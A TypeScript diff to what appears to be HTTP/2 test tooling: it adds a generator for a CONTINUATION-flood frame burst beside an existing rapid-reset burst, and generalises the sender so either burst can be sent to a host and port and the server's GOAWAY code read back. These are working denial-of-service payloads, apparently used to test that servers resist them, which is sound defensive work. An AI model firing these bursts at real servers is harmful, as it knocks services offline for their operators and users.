@@ -31,6 +31,14 @@ export function rapidResetBurst(n: number): Buffer {
   return Buffer.concat(parts);
 }
 
+/** A CONTINUATION flood: preface, SETTINGS, a HEADERS without END_HEADERS, then `n` CONTINUATIONs of 1 octet. */
+export function continuationFloodBurst(n: number): Buffer {
+  const parts: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0)), frame(1, 0x1, 1, Buffer.from([0x82]))];
+  // Each adds an indexed ":method GET" the block will never finish (END_HEADERS never comes).
+  for (let i = 0; i < n; i++) parts.push(frame(9, 0, 1, Buffer.from([0x82])));
+  return Buffer.concat(parts);
+}
+
 /** The error code of the first GOAWAY among `bytes` (frames from the server), or -1. */
 export function goawayCode(bytes: Buffer): number {
   for (let at = 0; at + 9 <= bytes.length;) {
@@ -41,16 +49,20 @@ export function goawayCode(bytes: Buffer): number {
   return -1;
 }
 
-/** Sends the burst to host:port and resolves with the GOAWAY code once the server closed. */
-export function rapidReset(host: string, port: number, streams: number): Promise<number> {
+/** Sends `bytes` to host:port and resolves with the server's GOAWAY code once it closed. */
+export function sendBurst(host: string, port: number, bytes: Buffer): Promise<number> {
   return new Promise((resolve) => {
     const c = net.connect(port, host);
     const got: Buffer[] = [];
     c.on('error', () => undefined);
     c.on('data', (d: Buffer) => got.push(d));
-    c.once('connect', () => c.write(rapidResetBurst(streams)));
+    c.once('connect', () => c.write(bytes));
     c.once('close', () => resolve(goawayCode(Buffer.concat(got))));
   });
+}
+
+export function rapidReset(host: string, port: number, streams: number): Promise<number> {
+  return sendBurst(host, port, rapidResetBurst(streams));
 }
 
 // Run as a program (tests/agent/http/app-h2-engines.test.ts imports the functions instead).
